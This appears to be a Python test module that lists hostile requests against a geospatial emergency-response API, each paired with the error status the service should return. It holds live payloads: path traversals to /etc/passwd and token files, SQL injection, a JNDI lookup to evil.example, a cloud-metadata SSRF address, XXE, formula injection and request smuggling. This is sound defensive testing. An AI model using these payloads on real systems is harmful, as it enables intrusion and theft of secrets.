"""Attacks on the service by single requests, each with the status that it is answered with."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import quote

from api.bodies import DEEPEST
from api.drafts import DOORS
from tests.county import AS_OF

TRAVERSALS: Final = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/tokens.json",
    "%252e%252e%252ftokens.json",
    "..%5c..%5cwindows%5cwin.ini",
    "....//....//etc/passwd",
    "%2fetc%2fpasswd",
    "%c0%ae%c0%ae%c0%aftokens.json",
    "file:%2f%2f%2fetc%2fpasswd",
    "tokens.json",
    "manifest.json",
    "journal.sqlite",
    "session.key",
    "villages%00.geojson",
    "%00",
    "%ff%fe",
    "a%0d%0aX-Injected:%20yes",
    "$%7bjndi:ldap:%2f%2fevil.example%2fa%7d",
    "%7b%7b7*7%7d%7d",
    "'%20OR%20'1'='1",
    "a" * 5000,
)
"""Names, as they stand in an address, of what no route may reach."""
TEXTS: Final = (
    "' OR 1=1; DROP TABLE events; --",
    "../../../../etc/passwd",
    "\r\nX-Injected: yes",
    "\x00",
    "\ufffe\ud7ff",
    "NaN",
    "Infinity",
    "1e999",
    "-1",
    "9" * 400,
    "٣",
    "<script>alert(1)</script>",
    "${7*7}{{7*7}}%n%s",
    "=cmd|' /C calc'!A0",
    "(" * 5000,
    "http://169.254.169.254/latest/meta-data/",
    "",
)
"""Values for any parameter."""
POINT: Final = {"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [111.405, 27.675]}}
BAR: Final = {"type": "LineString", "coordinates": [[111.423, 27.66], [111.423, 27.68]]}
PLACE: Final = "lon=111.405&lat=27.675"
VILLAGES: Final = "/ogc/collections/villages/items"


@dataclass(frozen=True, slots=True)
class Attack:
    """One request and its status; `limit` is the limit that the answer names, None for an answer that names none."""

    name: str
    target: str
    expected: int
    method: str = "GET"
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    limit: float | None = None


def _collection(*features: Any) -> dict[str, Any]:
    return {"type": "FeatureCollection", "features": list(features)}


def _closure(shape: Any) -> dict[str, Any]:
    return {"closures": _collection({"type": "Feature", "properties": {}, "geometry": shape})}


def _nested_collection(depth: int) -> bytes:
    return b'{"type":"GeometryCollection","geometries":[' * depth + b"]}" * depth


def _post(name: str, path: str, expected: int, body: object, limit: float | None = None, **headers: str) -> Attack:
    sent = body if isinstance(body, bytes) else json.dumps(body).encode()
    return Attack(name, path, expected, "POST", sent, headers, limit)


def _depths() -> Iterator[Attack]:
    """Brackets, one more than is taken up to more than any stack holds."""
    for depth in (DEEPEST + 1, 1_000, 1_000_000):
        for sign, end in ((b"[", b"]"), (b'{"a":', b"}")):
            body = sign * depth + b"1" + end * depth
            for path in ("/v1/nearest", "/v1/isolation", "/v1/coverage/reach", "/v1/closures", "/v1/check-ins"):
                yield _post(f"JSON {depth} deep to {path}, {sign!r}", path, 400, body, DEEPEST)
    yield _post("JSON deep without an end", "/v1/nearest", 400, b"[" * 1_000_000, DEEPEST)
    yield _post("brackets in a string", "/v1/nearest", 400, json.dumps("[" * 100_000).encode())
    body = b'{"closures":{"type":"Feature","properties":{},"geometry":%b}}'
    yield _post("collections in collections", "/v1/isolation", 400, body % _nested_collection(20_000), DEEPEST)
    yield _post("a few collections", "/v1/isolation", 400, body % _nested_collection(5))
    yield _post("a line nested as no line is", "/v1/isolation", 400, _closure({**BAR, "coordinates": [[[[[1]]]]]}))


def _numbers() -> Iterator[Attack]:
    """What is no number, or none that anything measures."""
    for text in ("NaN", "-NaN", "inf", "1e999", "-1e999", "1_0", "0x10", "٣", "1e", "", "1,2"):
        for name in ("lon", "lat"):
            other = "lat=27.675" if name == "lon" else "lon=111.405"
            yield Attack(f"{name}={text}", f"/v1/nearest?{name}={quote(text)}&{other}", 400)
        yield Attack(f"within_m={text}", f"/v1/exposure?within_m={quote(text)}", 400)
        yield Attack(f"bbox of {text}", f"{VILLAGES}?bbox={quote(text)},27,112,28", 400)
    check_in = {"team_id": "T03", "member_id": "m", "lat": 27.66, "crs": "EPSG:4326", "device_time": AS_OF.isoformat()}
    texts = (b"NaN", b"Infinity", b"1e999", b"-1e999", b"1e308", b"true", b'"111.4"', b"null", b"[111.4]", b"9" * 5000)
    for text in texts:
        body = json.dumps(check_in).encode()[:-1] + b',"lon":' + text + b"}"
        yield _post(f"check-in at {text[:9]!r}", "/v1/check-ins", 400, body)
        line = b'{"type":"LineString","coordinates":[[%b,27],[111,28]]}' % text
        closures = b'{"closures":{"type":"Feature","properties":{},"geometry":%b}}' % line
        yield _post(f"closure at {text[:9]!r}", "/v1/isolation", 400, closures)
    for text in ("1e3", "0x3", "3.0", "1" * 400):
        yield Attack(f"k={text[:9]}", f"/v1/nearest?{PLACE}&k={text}", 400)


def _limits() -> Iterator[Attack]:
    """One more than is taken."""
    for target, limit in (
        (f"/v1/nearest?{PLACE}&k=51", 50),
        ("/v1/places?lon=111.405&lat=27.675&k=51", 50),
        ("/v1/isolation?limit=1001", 1000),
        ("/v1/reinforce?village=431381001200&limit=51", 50),
        ("/v1/search?q=a&limit=51", 50),
        (f"/v1/search?q={'a' * 101}", 100),
        ("/v1/coverage/reach?minutes=1441", 1440),
        ("/v1/coverage/reach?teams=51", 50),
        (f"/v1/coverage/reach.geojson?bands={','.join(map(str, range(1, 27)))}", 24),
        ("/v1/exposure?within_m=1e9", 20_000),
        ("/v1/events?limit=10001", 10_000),
        (f"{VILLAGES}?filter={'(' * 1544}name='a'{')' * 1544}", 50),
        (f"{VILLAGES}?filter={'NOT%20' * 1000}name='a'", 300),
        (f"{VILLAGES}?filter={'%20AND%20'.join(['households=1'] * 301)}", 300),
        (f"{VILLAGES}?filter=name%20IN%20({','.join(['1'] * 10_001)})", 10_000),
        (f"{VILLAGES}?filter=name='{'a' * 70_000}'", 65_536),
        (f"{VILLAGES}?filter-lang=cql2-json&filter={'[' * 3000}", 50),
    ):
        yield Attack(target[:60], target, 400, limit=limit)
    yield _post("10,001 places", "/v1/nearest", 413, _collection(*[POINT] * 10_001), 10_000)
    yield _post("1,001 events", "/v1/check-ins", 413, [{}] * 1001, 1000)
    closures = {"closures": _collection(*[{"type": "Feature", "properties": {}, "geometry": BAR}] * 101)}
    yield _post("101 closures", "/v1/isolation", 400, closures, 100)
    long = {"type": "LineString", "coordinates": [[111.4 + step * 1e-6, 27.66] for step in range(10_001)]}
    yield _post("10,001 vertices", "/v1/isolation", 400, _closure(long), 10_000)
    bar = {"closure_id": "K9", "cause": "landslide", "effect": "closed", "vehicles": "all", "shape": long}
    yield _post("10,001 vertices to be recorded", "/v1/closures", 400, {**bar, "at": AS_OF.isoformat()}, 10_000)
    order = {"order_id": "O9", "scope": ["431381"], "cause": "fire", "at": AS_OF.isoformat()}
    yield _post("a cause of 501 letters", "/v1/mobilisations", 400, {**order, "cause": "x" * 501}, 500)
    codes = [f"{431381001001 + number}" for number in range(1001)]
    yield _post("a scope of 1,001 villages", "/v1/mobilisations", 400, {**order, "scope": codes}, 1000)
    around = {**BAR, "coordinates": [[-170, -80], [170, 80]]}
    yield _post("closure round the Earth", "/v1/isolation", 400, _closure(around))
    yield _post("a body of 16 MiB and a byte", "/v1/nearest", 413, b" " * (16 * 2**20 + 1), 16 * 2**20)
    for target in ("/tiles/villages/99/0/0.pbf", "/tiles/villages/1/5/0.pbf", f"{VILLAGES}?limit=-1"):
        yield Attack(target, target, 400)


def _languages() -> Iterator[Attack]:
    """SQL, CQL and patterns that other engines choke on."""
    for text in ("1=1; DROP TABLE villages", "name='a' UNION SELECT * FROM tokens", "name='a'--", "name=/* */'a'"):
        yield Attack(f"filter {text}", f"{VILLAGES}?filter={quote(text)}", 400)
    pattern = "%a" * 5_000
    yield Attack("a pattern that backtracks", f"{VILLAGES}?filter=name%20LIKE%20'{quote(pattern)}b'", 200)
    yield Attack("SQL in a search", "/v1/search?q=" + quote("'; DROP TABLE events"), 200)
    yield Attack("SQL in a code", "/v1/reinforce?village=" + quote("' OR '1'='1"), 404)
    yield Attack("SQL in a queryable", f"{VILLAGES}?name=" + quote("' OR '1'='1"), 200)
    yield Attack("filter of half a character", f"{VILLAGES}?filter-lang=cql2-json&filter=" + quote('"\\ud800"'), 400)
    yield Attack("a shape of NaN", f"{VILLAGES}?filter=" + quote("S_INTERSECTS(geometry,POINT(NaN NaN))"), 400)
    nested = "GEOMETRYCOLLECTION(" * 3_000 + "POINT(1 1)" + ")" * 3_000
    yield Attack("WKT deep", f"{VILLAGES}?filter=" + quote(f"S_INTERSECTS(geometry,{nested})"), 400, limit=50)


def _methods() -> Iterator[Attack]:
    for method in ("TRACE", "CONNECT", "PROPFIND", "DEBUG", "get", "DELETE", "PUT", "PATCH"):
        for path in ("/v1/events", "/v1/nearest", "/", "/health/live"):
            yield Attack(f"{method} {path}", path, 405, method)
    for method in ("GET", "DELETE", "PUT", "TRACE"):
        yield Attack(f"{method} of a door", "/v1/check-ins", 405, method)
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        yield Attack(f"another method by {name}", "/v1/layers", 200, headers={name: "DELETE"})


def _heads() -> Iterator[Attack]:
    """Many, strange or contradicting parts of a head."""
    many = "&".join(f"a{number}=1" for number in range(10_000))
    yield Attack("10,000 parameters", f"/v1/nearest?{many}", 400)
    yield Attack("a parameter 5,000 times", f"/v1/nearest?{PLACE}{'&k=3' * 5_000}", 400)
    yield Attack("a parameter given twice", f"/v1/layers?{'&'.join(['lang=en'] * 2)}", 400)
    yield Attack("a token in the address", f"/v1/nearest?{PLACE}&access_token=x", 400)
    yield Attack("query that is no UTF-8", "/v1/search?q=%ff%fe", 200)
    file = "/v1/export?f=csv&layers=towns"
    yield Attack("a range beyond everything", file, 416, headers={"Range": "bytes=99999999-"})
    yield Attack("1,000 ranges of one byte", file, 200, headers={"Range": f"bytes={'0-0,' * 1000}0-1"})
    apart = ",".join(f"{2 * number}-{2 * number}" for number in range(100))
    yield Attack("100 ranges apart", file, 206, headers={"Range": f"bytes={apart}"})
    for value in ("a" * 9_000, "*" * 9_000, ";q=" * 3_000, "zh\u00e9".encode().decode("latin-1"), "en;q=9e9"):
        for name in ("Accept", "Accept-Language", "Accept-Encoding", "If-None-Match", "Last-Event-ID"):
            yield Attack(f"{name}: {value[:9]}", "/v1/layers", 200, headers={name: value})
    yield Attack("a length that is none", "/v1/nearest", 400, "POST", headers={"Content-Length": "five"})
    both = {"Content-Length": "5", "Transfer-Encoding": "chunked"}
    yield Attack("two lengths", "/v1/nearest", 400, "POST", headers=both)
    yield Attack("a gibibyte declared", "/v1/nearest", 413, "POST", headers={"Content-Length": str(2**30)}, limit=2**24)
    yield Attack("200 headers", "/v1/layers", 431, headers={f"X-{number}": "" for number in range(200)}, limit=100)


def _bodies() -> Iterator[Attack]:
    """Bodies that are something else than they should be."""
    bodies = {
        "nothing": b"",
        "a number": b"1",
        "null": b"null",
        "a text": b'"a"',
        "an empty list": b"[]",
        "a list of lists": b"[[]]",
        "no JSON": b"{'a': 1}",
        "no UTF-8": b'{"a": "\xff"}',
        "half a character": b'{"event": "\\ud800"}',
        "two values": b"{}{}",
        "a BOM": b"\xef\xbb\xbf{}",
        "UTF-16": '{"a": 1}'.encode("utf-16"),
        "zipped": b"\x1f\x8b\x08\x00",
        "pickled": b"\x80\x04N.",
        "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "a form": b"a=1&b=2",
        "a fork": b'{"__proto__": {"role": "hq"}, "constructor": 1}',
    }
    for name, body in bodies.items():
        for door in DOORS:
            yield _post(f"{name} to {door}", f"/v1/{door}", 400, body)
        yield _post(f"{name} to nearest", "/v1/nearest", 400, body)
        yield _post(f"{name} to isolation", "/v1/isolation", 400, body)
    yield _post("an event that only the service records", "/v1/check-ins", 400, {"event": "access", "act": "signed_in"})
    zipped = {"Content-Encoding": "gzip"}
    yield Attack("a zipped body", "/v1/nearest", 400, "POST", b"\x1f\x8b\x08\x00" + b"\x00" * 100, zipped)


CORPUS: Final = (
    *_depths(),
    *_numbers(),
    *_limits(),
    *_languages(),
    *_methods(),
    *_heads(),
    *_bodies(),
)
